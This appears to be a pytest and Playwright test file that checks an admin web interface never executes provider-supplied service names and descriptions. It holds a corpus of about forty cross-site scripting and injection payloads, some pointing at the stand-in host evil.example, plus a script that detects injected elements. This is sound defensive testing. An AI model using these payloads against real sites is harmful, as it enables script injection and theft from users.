"""What providers call their services is only ever text: nothing of it runs in a real browser."""

import json
import re
from collections.abc import AsyncGenerator, Iterator, Mapping
from contextlib import AsyncExitStack
from dataclasses import dataclass, field, replace
from decimal import Decimal
from itertools import islice
from urllib.parse import quote, urlsplit

import pytest
from playwright.async_api import ConsoleMessage, Page

from gateway.admin.routes import PAGES
from gateway.dialects.book import BOOK
from gateway.domain.catalog import Listing
from gateway.domain.operators import Role
from gateway.domain.placements import Placement
from gateway.domain.services import ServiceType
from gateway.operations import Backends
from gateway.operations.add import Wanted, add
from gateway.operations.stored import stored
from gateway.operations.sync import sync
from gateway.storage.documents import Documents
from tests.admin.browsing import Window, chromium, needs_browser, open_window
from tests.admin.visiting import Desk
from tests.operations.parrot import KEY, Parrot
from tests.operations.shop import MARKUP, Shop, customer, put_on_sale, serving

CORPUS = (
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example/pixel?1>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror='hit()'>",
    '" autofocus onfocus=hit() x="',
    "' onmouseover='hit()' style='position:fixed;inset:0",
    "<svg onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><script>hit()</script></svg>",
    "<math><mtext></mtext><script>hit()</script></math>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:hit()>open</a>",
    "javascript:hit()//",
    "<details open ontoggle=hit()>more",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</option></select><img src=x onerror=hit()>",
    "--><script>hit()</script><!--",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>name",
    "<form action=//evil.example/><button>Apply it</button>",
    "<style>@import '//evil.example/x.css';</style>x",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "{{ 7 * 7 }}{% raw %}${hit()}",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\u202e<script>hit()</script>\u2066",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "<x " + "a" * 600 + " onclick=hit()>",
    '=HYPERLINK("//evil.example")',
)
# what a hand or time would set off, and where something could have got into a page
LOOK = """() => {
  const events = ["mouseover", "focus", "error", "load", "toggle", "animationstart", "begin"];
  for (const each of document.querySelectorAll("main *"))
    for (const name of events) each.dispatchEvent(new Event(name));
  const odd = [...document.querySelectorAll("*")].filter((each) =>
    /^(iframe|object|embed|base|video|math|animate|x)$/i.test(each.tagName)
    || [...each.attributes].some(({name}) => name.startsWith("on") || name == "style")
    || (each.tagName == "META" && each.httpEquiv)
    || (each.tagName == "SCRIPT" && !each.src.startsWith(location.origin))
    || ["href", "src", "action"].some((name) => each.getAttribute(name)
        && URL.parse(each.getAttribute(name), location)?.origin != location.origin));
  return odd.map((each) => each.outerHTML.slice(0, 200));
}"""
WATCH = """
window.hit = () => console.error("it ran");
document.addEventListener("securitypolicyviolation", (each) => {
  console.error("refused", each.violatedDirective, each.blockedURI);
});"""
TOLD = 4
ELSEWHERE = re.compile(r"evil\.example")


@dataclass
class Watched:
    """A window in which whatever runs, asks for something elsewhere or is refused is noted."""

    window: Window
    seen: list[str] = field(default_factory=list[str])
    pages: int = 0

    @property
    def page(self) -> Page:
        return self.window.page

    async def begin(self) -> None:
        await self.window.context.add_init_script(WATCH)
        await self.window.context.route(ELSEWHERE, lambda each: each.abort())
        self.page.on("dialog", lambda each: self.seen.append(f"dialog {each.message}"))
        self.page.on("console", self._told)
        self.page.on("pageerror", lambda each: self.seen.append(f"error {each}"))
        self.page.on("request", lambda each: self._asked(each.url))

    async def look(self, path: str = "") -> None:
        """At a page, or at what a button led to."""
        if path:
            assert await self.window.open(path) < 500
        self.seen += [f"{self.page.url}: {each}" for each in await self.page.evaluate(LOOK)]
        self.pages += 1

    async def press(self, name: str) -> None:
        """A button of ours, and a look at what it led to."""
        assert self.seen == []
        async with self.page.expect_navigation():
            await (
                self.page.locator("main form:last-of-type")
                .get_by_role("button", name=name, exact=True)
                .click()
            )
        await self.look()

    def _told(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.seen.append(message.text)

    def _asked(self, url: str) -> None:
        if urlsplit(url).hostname != "127.0.0.1":
            self.seen.append(f"asked {url}")


def listings(turn: int = 0) -> Iterator[Listing]:
    """Every text as a name beside another one as a category; from one turn to the next others."""
    for number, text in enumerate(CORPUS):
        name = f"{CORPUS[number - turn]} {number}"
        kind = text if number == 3 else "Default"
        yield Listing(
            *(str(900 + number), name, CORPUS[number - 7], kind, Decimal("0.5"), 10, 9_000),
            description=text,
        )


@pytest.fixture
async def panels(
    backends: Backends, monkeypatch: pytest.MonkeyPatch
) -> AsyncGenerator[Mapping[str, Parrot]]:
    """A provider of each dialect whose whole list is the corpus; nothing of it is sold yet."""
    monkeypatch.setenv("HOSTILE_KEY", KEY)
    async with AsyncExitStack() as stack:
        serve = await stack.enter_async_context(serving())
        found = {name: Parrot(dialect=dialect) for name, dialect in BOOK.items()}
        tables: list[str] = []
        for name, panel in found.items():
            panel.offer([], gone=[str(number) for number in range(900)])
            panel.offer(list(listings()))
            tables.append(
                f'[providers.{name}]\ndialect = "{name}"\nkey_env = "HOSTILE_KEY"\n'
                f'url = "{await serve(panel)}"\ncurrency = "USD"\n'
            )
        await put_on_sale(backends, Documents("\n".join(tables), "", MARKUP))
        yield found


async def described(backends: Backends) -> int:
    """All services that were imported get four texts as a description; how many they are."""
    found = await stored(backends)
    assert found is not None
    texts = iter(CORPUS * 99)
    assert len(CORPUS) % TOLD == 0

    def line(offers: re.Match[str]) -> str:
        told = "\n".join(islice(texts, TOLD)).replace("\u202e", "").replace("\u2066", "")
        return f"description = {json.dumps(told, ensure_ascii=False)}\n{offers[0]}"

    services, count = re.subn("^offers = ", line, found.documents.services, flags=re.MULTILINE)
    await put_on_sale(backends, replace(found.documents, services=services))
    return count


@needs_browser
async def test_the_watch_sees_what_would_run() -> None:
    """On a page without any care: else the test below could not fail."""
    async with chromium() as browser:
        page = await browser.new_page()
        watched = Watched(Window(page, "", page.context))
        await watched.begin()
        for text in CORPUS[:10]:
            await page.goto(f"data:text/html,{quote(f'<main><p>{text}</p></main>')}")
            await watched.look()
    assert watched.seen.count("it ran") >= 4
    assert any("evil.example" in each for each in watched.seen)


@needs_browser
async def test_no_name_of_a_provider_ever_runs(
    desk: Desk, backends: Backends, panels: Mapping[str, Parrot]
) -> None:
    await desk.account("ann", Role.OWNER)
    async with open_window(desk) as window:
        watched = Watched(window)
        await watched.begin()
        await window.sign_in(desk, "ann")
        for name in panels:
            await watched.look(f"/services/import?provider={name}")
            await window.page.select_option("#which", "shown")
            await watched.press("Import …")
            await window.page.get_by_label("Note").fill("<script>hit()</script>")
            await watched.press("Apply it")
        count = await described(backends)
        assert count == len(panels) * (len(CORPUS) - 1)
        bob = await customer(backends, "bob", "100")
        for number in (1, 2):
            order = Placement(number, ServiceType.DEFAULT, f"https://a.example/{number}", 100)
            assert await add(backends, [Wanted(bob, order)])
        for panel in panels.values():
            panel.offer(list(listings(turn=1)))
        for provider in tuple(backends.shelf.stock.catalog.providers.values()):
            await sync(backends, provider)
        for path in paths(panels, count):
            await watched.look(path)
        for path, button in (("/services", "Switch off …"), ("/services/held", AGREE)):
            await watched.look(path)
            await window.page.select_option("#which", "shown")
            await watched.press(button)
    assert watched.seen == []
    assert watched.pages > 40


@needs_browser
async def test_pages_with_something_on_them_keep_nobody_out(desk: Desk, shop: Shop) -> None:
    shop.acme.change(services={"101": {"rate": "9.00"}, "104": {"name": "Another"}})
    await shop.sync()
    await desk.account("ann", Role.OWNER)
    faults: list[str] = []
    async with open_window(desk, phone=True, dark=True) as window:
        await window.sign_in(desk, "ann")
        for path, button in (
            ("/services", "Switch off …"),
            ("/services/held", AGREE),
            ("/services/import", "Import …"),
            ("/services/1", "beta:101 up"),
        ):
            await window.open(path)
            faults += [f"{path}: {each}" for each in await window.faults()]
            if await window.page.locator("#which").count():
                await window.page.select_option("#which", "shown")
            await window.page.get_by_role("button", name=button).click()
            await window.page.wait_for_url("**/preview")
            faults += [f"after {path}: {each}" for each in await window.faults()]
    assert faults == []


AGREE = "Agree to what they are now …"


def paths(panels: Mapping[str, Parrot], count: int) -> Iterator[str]:
    """Every page that may show a name: those without a part, and examples of the others."""
    known = {page.path for page in PAGES if page.method == "GET"}
    yield from sorted(path for path in known if "{" not in path)
    yield from (f"/services?page={number}" for number in range(2, count // 50 + 2))
    yield from (f"/services/held?page={number}" for number in range(2, count // 50 + 2))
    # each description is there, and each name on the pages before
    described = range(1, len(CORPUS) // TOLD + 1)
    yield from (f"/services/{number}?quantity=100" for number in described)
    examples: Mapping[str, Iterator[str]] = {
        "/providers/{name}": (f"/providers/{name}" for name in panels),
        "/orders/{number:int}": iter(["/orders/1"]),
        "/customers/{number:int}": iter(["/customers/1"]),
        "/markup/revisions/{number:int}": iter(["/markup/revisions/3", "/markup/revisions/6"]),
        "/reconciliation/providers/{name}": iter(["/reconciliation/providers/standard"]),
    }
    for page, these in examples.items():
        if page in known:
            yield from these
